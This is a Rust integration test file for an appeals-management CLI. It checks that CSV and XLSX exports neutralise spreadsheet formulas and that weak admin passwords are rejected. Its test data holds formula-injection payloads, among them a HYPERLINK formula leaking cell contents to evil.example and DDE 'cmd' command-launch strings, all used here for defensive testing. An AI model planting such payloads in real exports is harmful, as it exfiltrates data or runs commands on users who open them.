//! What an outside probe tries through the binary's own commands: exports that carry
//! formulas to the supervisor's spreadsheet, and weak admin passwords.

mod support;

use std::process::Command;

use calamine::{Data, Reader, open_workbook_auto};
use support::jiesu;

/// Titles a citizen could type that a spreadsheet would run as formulas.
const FORMULAS: [&str; 5] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")",
    "+1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "-2+3",
];

fn import(db: &str, dir: &std::path::Path) {
    let mut writer = csv::Writer::from_path(dir.join("in.csv")).unwrap();
    writer
        .write_record(["id", "title", "detail", "time"])
        .unwrap();
    for (i, title) in FORMULAS.iter().enumerate() {
        writer
            .write_record([&i.to_string(), *title, "楼道灯坏了", "2026-10-01 09:30:00"])
            .unwrap();
    }
    writer.flush().unwrap();
    jiesu(&[
        "import",
        "appeals",
        dir.join("in.csv").to_str().unwrap(),
        "--db",
        db,
    ]);
}

#[test]
fn exports_carry_no_formulas() {
    let dir = tempfile::tempdir().unwrap();
    let db = format!("sqlite://{}", dir.path().join("x.db").display());
    import(&db, dir.path());

    // CSV: every formula-like cell starts with a single quote.
    let csv_path = dir.path().join("out.csv");
    jiesu(&[
        "export",
        "appeals",
        "--format",
        "csv",
        "--out",
        csv_path.to_str().unwrap(),
        "--db",
        &db,
    ]);
    let mut reader = csv::Reader::from_path(&csv_path).unwrap();
    let title = reader
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == "标题")
        .unwrap();
    let mut titles: Vec<String> = reader
        .records()
        .map(|r| r.unwrap()[title].to_string())
        .collect();
    titles.sort();
    let mut expected: Vec<String> = FORMULAS.iter().map(|f| format!("'{f}")).collect();
    expected.sort();
    assert_eq!(titles, expected);

    // XLSX: the titles are plain strings, and the sheet holds no formula.
    let xlsx_path = dir.path().join("out.xlsx");
    jiesu(&[
        "export",
        "appeals",
        "--format",
        "xlsx",
        "--out",
        xlsx_path.to_str().unwrap(),
        "--db",
        &db,
    ]);
    let mut book = open_workbook_auto(&xlsx_path).unwrap();
    let formulas = book.worksheet_formula("诉求").unwrap();
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "no cell is a formula"
    );
    let sheet = book.worksheet_range("诉求").unwrap();
    let mut cells: Vec<String> = sheet
        .rows()
        .skip(1)
        .map(|row| match &row[title] {
            Data::String(s) => s.clone(),
            other => panic!("a title is not a string cell: {other:?}"),
        })
        .collect();
    cells.sort();
    let mut raw: Vec<String> = FORMULAS.iter().map(|f| f.to_string()).collect();
    raw.sort();
    assert_eq!(cells, raw);
}

#[test]
fn create_admin_refuses_weak_passwords_and_twin_names() {
    let dir = tempfile::tempdir().unwrap();
    let db = format!("sqlite://{}", dir.path().join("a.db").display());
    let create = |username: &str, password: &str| {
        Command::new(env!("CARGO_BIN_EXE_jiesu"))
            .args(["create-admin", "--db", &db, "--username", username])
            .args(["--password", password])
            .output()
            .unwrap()
    };
    for password in [
        "12345678",
        "password",
        "        ",
        "password123",
        "admin-2026-x",
    ] {
        let out = create("admin", password);
        assert!(!out.status.success(), "{password:?} was accepted");
        assert!(
            String::from_utf8_lossy(&out.stderr).contains("密码"),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    assert!(create("admin", "河边柳树下的长椅2026").status.success());
    let twin = create("Admin", "另一个足够长的口令9");
    assert!(!twin.status.success());
    assert!(String::from_utf8_lossy(&twin.stderr).contains("已存在"));
}
